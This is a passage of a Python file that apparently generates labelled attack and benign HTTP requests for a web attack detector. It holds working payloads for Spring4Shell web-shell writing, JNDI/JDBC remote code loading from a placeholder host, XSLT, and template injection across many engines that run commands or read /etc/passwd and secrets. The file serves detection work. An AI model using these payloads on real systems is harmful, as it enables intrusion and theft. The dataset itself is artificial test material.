    '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://203.0.113.7:1389/Exploit", autoCommit: true}',
]

SPRING4SHELL: list[list[tuple[str, str]]] = [
    [("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
      "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime()"
      ".exec(request.getParameter(\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; "
      "while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i"),
     ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
     ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
     ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
     ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")],
    [("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "_")],
    [("class.classLoader.URLs[0]", "jar:http://203.0.113.7/x.jar!/")],
    [("class.module.classLoader.DefaultAssertionStatus", "nonsense")],
    [("class.module.classLoader.resources.context.configFile", "http://203.0.113.7/x.conf"),
     ("class.module.classLoader.resources.context.configFile.content.config", "config.conf")],
    [("class.classLoader.resources.dirContext.docBase", "\\\\203.0.113.7\\share")],
    [("class.module.classLoader.resources.context.parent.appBase", "/")],
    [("name", "x"), ("class[module][classLoader][resources][context][parent][pipeline][first][suffix]", ".jsp")],
]

REFLECTION = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "Class.forName('java.lang.ProcessBuilder').getConstructor(java.util.List).newInstance(['id']).start()",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "new ScriptEngineManager().getEngineByExtension(\"js\").eval(\"java.lang.System.exit(0)\")",
    "java.lang.System.exit(0)",
    "java.lang.reflect.Method m = Runtime.class.getMethod(\"exec\", String.class); m.invoke(Runtime.getRuntime(),"
    " \"id\");",
    "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\")",
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://203.0.113.7/e.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "java.lang.invoke.MethodHandles.lookup().findStatic(Runtime.class,\"getRuntime\","
    "java.lang.invoke.MethodType.methodType(Runtime.class))",
    "new javax.naming.InitialContext().lookup(\"ldap://203.0.113.7:1389/x\")",
    "load(\"nashorn:mozilla_compat.js\");importPackage(java.lang);Runtime.getRuntime().exec(\"id\")",
    "var pb = Java.type('java.lang.ProcessBuilder'); new pb(['id']).start()",
]

JDBC = [
    "jdbc:h2:mem:testdb;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.7:8000/poc.sql'",
    "jdbc:h2:mem:;INIT=CREATE ALIAS SHELLEXEC AS $$ String shellexec(String cmd) throws java.io.IOException "
    "{ java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()); "
    "return s.hasNext() ? s.next() : \"\"; }$$\\;CALL SHELLEXEC('id')",
    "jdbc:mysql://203.0.113.7:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors."
    "ServerStatusDiffInterceptor&user=yso_CommonsCollections4_id",
    "jdbc:postgresql://127.0.0.1:5432/test?socketFactory=org.springframework.context.support."
    "ClassPathXmlApplicationContext&socketFactoryArg=http://203.0.113.7/bean.xml",
    "jdbc:db2://203.0.113.7:50000/x:clientRerouteServerListJNDIName=ldap://203.0.113.7:1389/a;",
    "jdbc:sqlite::resource:http://203.0.113.7/poc.db",
    "jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=../../webapps/ROOT/x.jsp&<%Runtime.getRuntime()"
    ".exec(request.getParameter(\"c\"));%>",
]

XSLT = [
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable '
    'name="rtobject" select="rt:getRuntime()"/><xsl:value-of select="rt:exec($rtobject,\'id\')"/></xsl:template>'
    '</xsl:stylesheet>',
    '<xsl:value-of select="system-property(\'xsl:vendor\')"/>',
    '<xsl:copy-of select="document(\'/etc/passwd\')"/>',
    '<xsl:include href="http://203.0.113.7/evil.xsl"/>',
    '<xsl:value-of select="unparsed-text(\'file:///etc/passwd\')"/>',
    '<xsl:value-of xmlns:java="http://saxon.sf.net/java-type" select="java:java.lang.Runtime.getRuntime()"/>',
]

# --------------------------------------------------------------------------------------------------------------
# ssti, by engine
SSTI: dict[str, list[str]] = {
    "jinja2": [
        "{{config}}",
        "{{config.items()}}",
        "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{{joiner.__init__.__globals__.os.popen('id').read()}}",
        "{{namespace.__init__.__globals__.os.popen('id').read()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ ''.__class__.__base__.__subclasses__()[408]('id',shell=True,stdout=-1).communicate() }}",
        r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')"
        r"('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')"
        r"|attr('popen')('id')|attr('read')()}}",
        "{{()|attr('__class__')|attr('__base__')|attr('__subclasses__')()}}",
        "{{ request|attr([\"_\"*2,\"class\",\"_\"*2]|join) }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
        "{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}"
        "{% endif %}{% endfor %}",
        "{{config.__class__.__init__.__globals__['os'].environ}}",
        "{{url_for.__globals__.os.environ}}",
        "{{get_flashed_messages.__globals__.current_app.config}}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ config.from_pyfile('/tmp/evil.cfg') }}",
        "{%print(7*7)%}",
        "{{g.pop.__globals__.__builtins__.open('/etc/passwd').read()}}",
        "%7B%7Bconfig%7D%7D",
        "{{request.environ['werkzeug.server.shutdown']()}}",
        r"{{'abc'|attr('\u005f\u005fclass\u005f\u005f')}}",
        "{{ ''.__class__.mro()[1].__subclasses__() }}",
        "{% set x = cycler.__init__.__globals__ %}{{ x.os.popen(request.args.c).read() }}",
    ],
    "django": [
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.get_username}}:{{e.user.password}}"
        "{% endfor %}",
    ],
    "twig": [
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{{_self.env.setCache(\"ftp://203.0.113.7:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
        "{{['id']|filter('system')}}",
        "{{['cat /etc/passwd']|map('system')|join}}",
        "{{['id',1]|sort('system')|join}}",
        "{{[0]|reduce('system','id')}}",
        "{{app.request.server.all|join(',')}}",
        "{{ dump(app) }}",
        "{{'/etc/passwd'|file_excerpt(1,30)}}",
        "{{ source('/etc/passwd') }}",
        "{{[\"id\"]|map(\"passthru\")}}",
        "{{ app.request.query.filter(0,0,1024,{'options':'system'}) }}",
    ],
    "freemarker": [
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"cat /etc/passwd\") }",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
        "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
        "\"id\").start()}",
        "<#assign jre=\"freemarker.template.utility.JythonRuntime\"?new()><@jre>import os;os.system(\"id\")</@jre>",
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
        ".toURL().openStream().readAllBytes()?join(\" \")}",
        "<#assign cl=article.class.protectionDomain.classLoader><#assign owc=cl.loadClass("
        "\"freemarker.template.ObjectWrapper\")>",
        "${object?api.class.getResource(\"/\").path}",
        "${\"a\"?api.getClass().forName(\"java.lang.Runtime\")}",
        "${.version}",
        "#{7*7}",
    ],
    "velocity": [
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName("
        "'java.lang.Character'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
        ".exec(\"id\")",
        "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
        "#set($proc=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"cat /etc/passwd\"))",
        "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
        "$request.getClass().getClassLoader()",
        "#set($s=\"\")#set($p=$s.getClass().forName(\"java.lang.ProcessBuilder\"))",
        "#set ($a = 7*7) $a",
        "#parse(\"/etc/passwd\")",
        "#include(\"/etc/shadow\")",
    ],
    "thymeleaf": [
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
        "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
        "[[${T(java.lang.System).getenv()}]]",
        "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
        "__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x",
        "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
        "[[${#request.getClass()}]]",
        "__${7*7}__::.x",
        "__*{T(java.lang.Runtime).getRuntime().exec('id')}__::..x",
    ],
    "smarty": [
        "{php}echo `id`;{/php}",
        "{system('id')}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
        "self::clearConfig())}",
        "{$smarty.version}",
        "{self::getStreamVariable(\"file:///etc/passwd\")}",
        "{if system('cat /etc/passwd')}{/if}",
        "{fetch file=\"/etc/passwd\"}",
        "{$smarty.template_object->smarty->display('string:{system(\"id\")}')}",
        "a{*comment*}b",
    ],
    "erb": [
        "<%= `id` %>",
        "<%= system('cat /etc/passwd') %>",
        "<%= File.open('/etc/passwd').read %>",
        "<%= IO.popen('id').readlines() %>",
        "<%= Dir.entries('/') %>",
        "<%= 7*7 %>",
        "<% require 'open3' %><%= Open3.capture2('id') %>",
        "<%= ENV.to_h %>",
    ],
    "mako": [
        "<% import os %>${os.popen('id').read()}",
        "<%import os;x=os.popen('id').read()%>${x}",
        "${self.module.cache.util.os.system(\"id\")}",
        "${self.module.runtime.util.os.popen('id').read()}",
        "<%! import subprocess %>${subprocess.check_output(['id'])}",
        "${__import__('os').popen('id').read()}",
        "${\"z\".join(\"ab\")}",
    ],
    "handlebars": [
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
        "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
        "\"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with "
        "(string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
        "{{lookup (lookup this \"constructor\") \"constructor\"}}",
        "{{#each (lookup this \"__proto__\")}}{{@key}}{{/each}}",
        "{{#with (lookup this \"constructor\") as |c|}}{{c.constructor \"return process.env\"}}{{/with}}",
        "{{{ [constructor].[constructor] }}}",
    ],
    "pug": [
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
        ".exec('id')}()}",
        "- var x = global.process.mainModule.require('child_process').execSync('id')",
        "#{root.process.mainModule.require('child_process').spawnSync('cat', ['/etc/passwd']).stdout}",
        "= global.process.env",
    ],
    "ejs": [
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "<%- include('/etc/passwd') %>",
        "<%= process.env.SECRET_KEY %>",
        "<%- process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    ],
    "nunjucks": [
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "{{ joiner.constructor(\"return process.env\")() }}",
        "{{ cycler.constructor(\"return require('fs').readFileSync('/etc/passwd','utf8')\")() }}",
        "{{''.constructor.constructor(\"return this.process\")()}}",
    ],
    "dot": [
        "{{= global.process.mainModule.require('child_process').execSync('id') }}",
        "{{= it.constructor.constructor('return process')().env }}",
        "{{ var x = process.mainModule.require('child_process').execSync('id'); }}{{=x}}",
    ],
    "tornado": [
        "{% import os %}{{ os.popen(\"id\").read() }}",
        "{{handler.settings}}",
        "{% raw __import__('os').popen('id').read() %}",
        "{{handler.application.settings['cookie_secret']}}",
    ],
    "razor": [
        "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
        "@{ var p = System.Diagnostics.Process.Start(\"cmd.exe\", \"/c type C:\\\\Windows\\\\win.ini\"); }",
        "@System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\wwwroot\\\\web.config\")",
        "@(7*7)",
    ],
    "angularjs": [
        "{{constructor.constructor('alert(document.domain)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    ],
    "polyglot": [
        "${{<%[%'\"}}%\\.",
        "{{7*'7'}}",
        "${7*7}",
        "{{7*7}}${7*7}<%= 7*7 %>${{7*7}}#{7*7}*{7*7}",
        "{{1337*1337}}",
        "${{7*7}}",
        "{{=7*7}}",
        "<%= 1337*1337 %>{{1337*1337}}",
        "{{dump(app)}}${{7*7}}",
        "%24%7B7*7%7D%7B%7B7*7%7D%7D",
    ],
}

GENERIC = ([("node-code", p) for p in NODE_CODE] + [("prototype-pollution", p) for p in POLLUTION_VALUES]
           + [("ssrf", p) for p in SSRF] + [("python-code", p) for p in PYTHON_CODE]
           + [("ruby-code", p) for p in RUBY_CODE] + [("perl-code", p) for p in PERL_CODE])
JAVA = ([("jndi", p) for p in JNDI] + [("log4j-lookup", p) for p in LOG4J_LOOKUP] + [("ognl", p) for p in OGNL]
        + [("spel", p) for p in SPEL] + [("jakarta-el", p) for p in JAKARTA_EL] + [("mvel", p) for p in MVEL]
        + [("groovy", p) for p in GROOVY] + [("deserialization", p) for p in DESERIALIZATION]
        + [("reflection", p) for p in REFLECTION] + [("jdbc-url", p) for p in JDBC] + [("xslt", p) for p in XSLT])
SSTI_ALL = [(engine, p) for engine, payloads in SSTI.items() for p in payloads]


def _qs(pairs: list[tuple[str, str]]) -> str:
    return urllib.parse.urlencode(pairs, quote_via=urllib.parse.quote, safe="")


def _nest(pairs: list[tuple[str, str]]) -> dict[str, Any]:
    """The document a qs-style parser builds from bracketed / dotted keys."""
    doc: dict[str, Any] = {}
    for key, value in pairs:
        parts = [p for p in re.split(r"\[|\]\[|\]|\.", key) if p]
        node = doc
        for part in parts[:-1]:
            nxt = node.setdefault(part, {})
            node = nxt if isinstance(nxt, dict) else node
        node[parts[-1]] = value
    return doc


def _raw_form(uri: str, body: str) -> dict[str, Any]:
    return {**_form(uri, []), "body": body}


def _raw_json(uri: str, text: str) -> dict[str, Any]:
    return {**_json(uri, {}), "body": text}


def _pairs_records(pairs: list[tuple[str, str]], nested_json: bool) -> list[tuple[str, dict[str, Any]]]:
    qs = _qs(pairs)
    third = (("json", _json("/api/users", {"email": "a@example.org", **_nest(pairs)})) if nested_json
             else ("form", _raw_form("/api/users", qs)))
    return [("query", _get("/api/users?page=1&" + qs)),
            ("form", _raw_form("/admin/users/search", "csrf_token=t0k3n&" + qs)), third]


def attacks() -> Iterator[dict[str, Any]]:
    counters: dict[str, int] = {}

    def rec(family: str, sub: str, place: str, payload: str, base: dict[str, Any]) -> dict[str, Any]:
        counters[family] = counters.get(family, 0) + 1
        return {**base, "id": f"{SET}-{family}-{counters[family]:04d}", "category": family, "sub": sub,
                "placement": place, "payload": payload}

    for family, items in (("generic", GENERIC), ("java", JAVA), ("ssti", SSTI_ALL)):
        for i, (sub, p) in enumerate(items):
            for place, name in three_places(i, NAMES):
                yield rec(family, sub, place, p, _place(place, name, p))
    for pairs in POLLUTION_PAIRS:
        shown = "&".join(f"{k}={v}" for k, v in pairs)
        for place, base in _pairs_records(pairs, nested_json=True):
            yield rec("generic", "prototype-pollution", place, shown, base)
    for qs in POLLUTION_RAW_QS:
        for place, base in (("query", _get("/api/users?" + qs)),
                            ("form", _raw_form("/admin/users/search", "csrf_token=t0k3n&" + qs)),
                            ("query", _get("/api/users?page=2&" + qs))):
            yield rec("generic", "prototype-pollution", place, qs, base)
    for i, doc in enumerate(POLLUTION_DOCS):
        text = doc if isinstance(doc, str) else json.dumps(doc)
        name = NAMES[i % len(NAMES)]
        body = _raw_json("/api/users", text) if isinstance(doc, str) else _json("/api/users/42", doc)
        for place, base in (("json", body), ("form", _form("/admin/users/search", [("csrf_token", "t0k3n"),
                                                                                  (name, text)])),
                            ("query", _get(_query("/api/users", [(name, text), ("page", "1")])))):
            yield rec("generic", "prototype-pollution", place, text, base)
    for pairs in SPRING4SHELL:
        shown = "&".join(f"{k}={v}" for k, v in pairs)
        for place, base in _pairs_records(pairs, nested_json=False):
            yield rec("java", "spring4shell", place, shown, base)


# --------------------------------------------------------------------------------------------------------------
# benign
WEBHOOKS = [
    "https://hooks.slack.com/services/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",
    "https://discord.com/api/webhooks/1187654321098765432/Qm3XyT9pL2aKcV7wE5rN1sB8dF4gH6jU0iO",
    "https://events.pagerduty.com/v2/enqueue",
    "https://hooks.zapier.com/hooks/catch/1234567/3kq9zx/",
    "https://api.github.com/repos/acme-corp/billing-service/dispatches",
    "https://gitlab.com/api/v4/projects/42817/trigger/pipeline",
    "https://ci.acme-corp.io/generic-webhook-trigger/invoke?token=deploy-billing",
    "https://acmecorp.webhook.office.com/webhookb2/4b1c9e2a-7d3f-4e8a-9c61-2f0d5a7b8e93@72f988bf/IncomingWebhook/a1b2",
    "https://api.opsgenie.com/v2/alerts",
    "https://webhook.site/0f1e2d3c-4b5a-6978-8a9b-cdef01234567",
]
IMAGES = [
    "https://images.unsplash.com/photo-1506744038136-46273834b3fb?w=800&q=80&auto=format",
    "https://avatars.githubusercontent.com/u/9919?s=200&v=4",
    "https://upload.wikimedia.org/wikipedia/commons/thumb/4/47/PNG_transparency_demonstration_1.png/"
    "280px-PNG_transparency_demonstration_1.png",
    "https://cdn.acme-corp.io/img/hero@2x.png",
    "https://i.imgur.com/Xq3bZ7k.jpeg",
    "https://secure.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon",
    "https://lh3.googleusercontent.com/a/ACg8ocJ2x9Yk2mWq7RtLp=s96-c",
    "https://pbs.twimg.com/profile_images/1683325380441128960/yRsRRjGO_400x400.jpg",
]
FEEDS = [
    "https://blog.rust-lang.org/feed.xml",
    "https://feeds.bbci.co.uk/news/technology/rss.xml",
    "https://hnrss.org/frontpage?points=100",
    "https://github.com/nodejs/node/releases.atom",
    "https://www.reddit.com/r/java/.rss",
    "https://spring.io/blog.atom",
    "https://aws.amazon.com/blogs/security/feed/",
    "https://status.slack.com/feed/rss",
    "https://www.githubstatus.com/history.rss",
    "https://pythoninsider.blogspot.com/feeds/posts/default",
]
CALLBACKS = [
    "https://app.acme-corp.io/oauth/callback",
    "http://localhost:3000/auth/callback",
    "jQuery3510_1719000000000",
    "handleSearchResults",
    "https://staging.acme-corp.io/integrations/slack/callback?state=xyz",
]
NEXTS = [
    "/dashboard?tab=settings",
    "/me/profile",
    "https://app.acme-corp.io/billing?plan=pro",
    "/admin/users?page=3&sort=-created_at",
    "/me/notifications#webhooks",
]
LOCALES = ["en-US", "pt_BR", "zh-Hant-TW", "sr-Latn-RS", "en_GB.UTF-8", "fr-CA", "es-419", "ja_JP", "de-CH",
           "nb-NO", "ar-EG", "en-US,en;q=0.9,de;q=0.8", "tr-TR", "he-IL", "ko_KR"]
TEMPLATE_NAMES = ["welcome_email_v2", "invoice/monthly.html", "password-reset.txt", "onboarding-day-3",
                  "digest_weekly.mjml", "templates/emails/receipt.html.j2", "order_shipped", "slack/alert_block.json",
                  "default", "dark-theme"]
EXPRS = ["0 */5 * * *", "status:open label:bug", "created_at >= 2024-06-01", "2*(3+4)", "tag:java -is:archived",
         "name~report", "priority in (P1, P2)", "@daily", "region == \"eu-west-1\" && env == \"prod\"",
         "count > 10", "assignee:me sort:updated-desc", "severity>=warning"]
NOTIFICATION_TEMPLATES = [
    "Hello {{first_name}}, your order #{{order_id}} has shipped!",
    "Dear ${name}, thank you for registering for our Spring webinar. See you on ${date}!",
    "Hi {{ user.first_name|default:'there' }}, here is your weekly summary.",
    "Your verification code is {{code}}. It expires in {{ttl_minutes}} minutes.",
    "Hey %{name}, welcome to the team!",
    "{{#if premium}}Thanks for being a Pro member, {{name}}!{{else}}Upgrade today and save 20%.{{/if}}",
    "Hi <%= user.first_name %>, your invoice for <%= invoice.month %> is ready.",
    "Dear ${customer.firstName}, your subscription renews on ${renewalDate}.",
    "{{name}} commented on {{ticket.title}}: \"{{comment.excerpt}}\"",
    "Reminder: {{event_name}} starts at {{start_time}} ({{timezone}}).",
    "Hi [FIRST_NAME], we miss you! Come back for 15% off with code {{coupon}}.",
    "Your package from {{store}} is out for delivery. Track it: {{tracking_url}}",
    "*|FNAME|*, your cart is waiting for you.",
    "{{#each items}}- {{this.name}} x {{this.qty}}\n{{/each}}Total: {{total}}",
]
JAVA_TEXTS = [
    "Exception in thread \"main\" java.lang.IllegalStateException: Failed to load ApplicationContext\n"
    "\tat org.springframework.test.context.cache.DefaultCacheAwareContextLoaderDelegate.loadContext("
    "DefaultCacheAwareContextLoaderDelegate.java:132)",
    "Caused by: java.sql.SQLTransientConnectionException: HikariPool-1 - Connection is not available, request "
    "timed out after 30000ms.",
    "java.lang.OutOfMemoryError: Java heap space\n\tat java.base/java.util.Arrays.copyOf(Arrays.java:3537)\n"
    "\tat java.base/java.lang.AbstractStringBuilder.ensureCapacityInternal(AbstractStringBuilder.java:228)",
    "com.fasterxml.jackson.databind.exc.InvalidDefinitionException: Cannot construct instance of "
    "`com.acme.dto.Order` (no Creators, like default constructor, exist)",
    "java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"s\" is null\n"
    "\tat com.acme.billing.InvoiceService.total(InvoiceService.java:88)",
    "<Configuration status=\"WARN\"><Appenders><Console name=\"Console\" target=\"SYSTEM_OUT\"><PatternLayout "
    "pattern=\"%d{HH:mm:ss.SSS} [%t] %-5level %logger{36} - %msg%n\"/></Console></Appenders><Loggers><Root "
    "level=\"info\"><AppenderRef ref=\"Console\"/></Root></Loggers></Configuration>",
    "logging.level.org.springframework.web=DEBUG\nlogging.pattern.console=%d{yyyy-MM-dd HH:mm:ss} - %msg%n",
    "spring.datasource.url=jdbc:postgresql://db.internal:5432/orders\nspring.datasource.username=${DB_USER}\n"
    "spring.jpa.hibernate.ddl-auto=validate",
    "management.endpoints.web.exposure.include=health,info,prometheus",
    "<appender name=\"FILE\" class=\"ch.qos.logback.core.rolling.RollingFileAppender\"><file>${LOG_PATH}/app.log"
    "</file></appender>",
    "log4j2.formatMsgNoLookups=true",
    "<RollingFile name=\"app\" fileName=\"${sys:catalina.base}/logs/app.log\" "
    "filePattern=\"logs/app-%d{yyyy-MM-dd}.log.gz\"/>",
    "server.port=${PORT:8080}\nspring.profiles.active=prod",
    "org.hibernate.LazyInitializationException: could not initialize proxy [com.acme.model.Customer#42] - "
    "no Session",
    "WARN 1 --- [nio-8080-exec-3] o.s.web.servlet.PageNotFound : No mapping for GET /favicon.ico",
]
DJANGO_JINJA = [
    "{% extends \"base.html\" %}\n{% block content %}<h1>{{ page.title }}</h1>{% endblock %}",
    "{% for item in cart.items %}<li>{{ item.name }} x {{ item.qty }}</li>{% endfor %}",
    "{{ user.date_joined|date:\"M d, Y\" }}",
    "{% load static %}<img src=\"{% static 'img/logo.png' %}\" alt=\"logo\">",
    "{{ amount|round(2) }} {{ currency|upper }}",
    "{% if user.is_authenticated %}Welcome back, {{ user.username }}!{% else %}<a href=\"{% url 'login' %}\">"
    "Log in</a>{% endif %}",
    "{{ description|truncatewords:30|linebreaks }}",
    "{% include 'partials/footer.html' %}",
    "{% trans \"Order summary\" %}: {{ order.number }}",
    "{{ items|length }} items, {{ items|map(attribute='price')|sum }} total",
]
SETTINGS_DOCS: list[dict[str, Any]] = [
    {"theme": "dark", "notifications": {"email": True, "slack": {"channel": "#alerts", "mention": "@oncall"}}},
    {"proto_version": 3, "protocol": "https", "port": 443},
    {"retry": {"max_attempts": 5, "backoff": "exponential", "initial_ms": 200}},
    {"prototype_id": "PRT-2024-118", "prototypes": ["checkout-v2", "search-ranking"], "stage": "beta"},
    {"locale": "de-DE", "timezone": "Europe/Berlin", "date_format": "dd.MM.yyyy"},
    {"webhook": {"url": "https://hooks.zapier.com/hooks/catch/1234567/3kq9zx/", "events": ["order.created"],
                 "secret_rotation_days": 90}},
    {"image": {"max_width": 1600, "formats": ["webp", "avif", "jpeg"], "quality": 82}},
    {"feed": {"url": "https://spring.io/blog.atom", "poll_minutes": 30}},
    {"filter": {"status": ["active", "trial"], "created_after": "2024-01-01"}, "sort": "-updated_at"},
    {"options": {"include": ["owner", "tags"], "page_size": 50}},
    {"config": {"feature_flags": {"new_editor": True, "ai_summary": False}, "version": "2.14.0"}},
    {"template": "welcome_email_v2", "variables": {"first_name": "Ana", "plan": "Pro"}},
    {"data": {"type": "users", "attributes": {"name": "Ann Lee", "title": "Staff Engineer"}}},
    {"protocol_options": {"http2": True, "alpn": ["h2", "http/1.1"]}, "tls": {"min_version": "1.2"}},
    {"next": "/dashboard", "remember_me": True},
    {"settings": {"digest": {"day": "monday", "hour": 9}, "quiet_hours": {"from": "22:00", "to": "07:00"}}},
    {"callback": {"url": "https://app.acme-corp.io/oauth/callback", "method": "POST"}},
    {"expr": "0 */5 * * *", "job": "sync-feeds"},
]


def _slack_text(text: str) -> str:
    """How Slack delivers typed text: &, <, > escaped and links wrapped in angle brackets."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return re.sub(r"https?://[^\s`'\")]+", lambda m: "<" + m.group(0) + ">", escaped)


DEV_CODE = [
    "anyone know why `require('child_process').exec` hangs on windows? I'm doing "
    "```exec('git status', (err, out) => console.log(out))```",
    "PSA: don't use `eval()` on user input, use `JSON.parse` instead",
    "```const fs = require('fs');\nconst data = fs.readFileSync('./config.json', 'utf8');```",
    "lodash `_.merge` had that prototype pollution CVE, bump to 4.17.21 pls",
    "```import subprocess\nresult = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True)"
    "\nprint(result.stdout)```",
    "```with open('data.csv') as f:\n    rows = list(csv.DictReader(f))```",
    "yaml.load is unsafe, switch to `yaml.safe_load(stream)`",
    "Ruby: ```users.each { |u| puts \"#{u.name} <#{u.email}>\" }```",
    "```ObjectMapper mapper = new ObjectMapper();\nOrder o = mapper.readValue(json, Order.class);```",
    "we pinned log4j-core to 2.17.1 after the Log4Shell thing, see JIRA SEC-412",
    "```@Value(\"${app.timeout:30}\")\nprivate int timeout;```",
    "```logger.info(\"user {} logged in from {}\", userId, ip);```",
    "```template = env.get_template('report.html')\nhtml = template.render(rows=rows, title=title)```",
    "```app.use(express.json({ limit: '1mb' }))```",
    "```const url = new URL(req.query.next, 'https://app.acme-corp.io');```",
    "```Runtime.getRuntime().addShutdownHook(new Thread(() -> pool.shutdown()));```",
    "```def greet(name)\n  \"Hello, #{name}!\"\nend```",
    "perl one-liner I use: ```perl -pi -e 's/foo/bar/g' *.txt```",
    "```Object.freeze(Object.prototype)``` at startup blocks the whole class of pollution bugs btw",
    "```for (const [k, v] of Object.entries(obj)) { if (k === '__proto__') continue; out[k] = v }```",
    "```python -m http.server 8000```",
    "```curl -s http://localhost:8080/actuator/health | jq .status```",
    "ruby `Marshal.load` on untrusted data is bad, we use JSON now",
    "```@app.route('/users/<int:user_id>')\ndef show_user(user_id):\n    return render_template('user.html', "
    "user=User.query.get_or_404(user_id))```",
    "```const { execFile } = require('node:child_process');```",
    "```ExpressionParser parser = new SpelExpressionParser();\nExpression exp = parser.parseExpression("
    "\"name.toUpperCase()\");```",
    "```kubectl logs deploy/api -n prod --since=10m | grep ERROR```",
    "```import json\nwith open('settings.json') as fh:\n    cfg = json.load(fh)```",
    "```docker run -p 127.0.0.1:5432:5432 postgres:16```",
    "```jdbc:postgresql://localhost:5432/app?sslmode=require```",
    "the webhook payload is ```{\"event\": \"push\", \"ref\": \"refs/heads/main\"}```",
    "```{{ range .Items }}{{ .Name }}{{ end }}``` in helm is so ugly lol",
    "```<#list users as user>${user.name}</#list>``` freemarker loop for the csv export",
    "```th:text=\"${user.name}\"``` vs `th:utext`, use the first one",
    "```if (process.env.NODE_ENV === 'production') app.set('trust proxy', 1)```",
    "`new Function` is basically eval, eslint no-new-func flags it",
    "```public static void main(String[] args) { SpringApplication.run(App.class, args); }```",
    "```ERB.new(File.read('config/database.yml.erb')).result(binding)```",
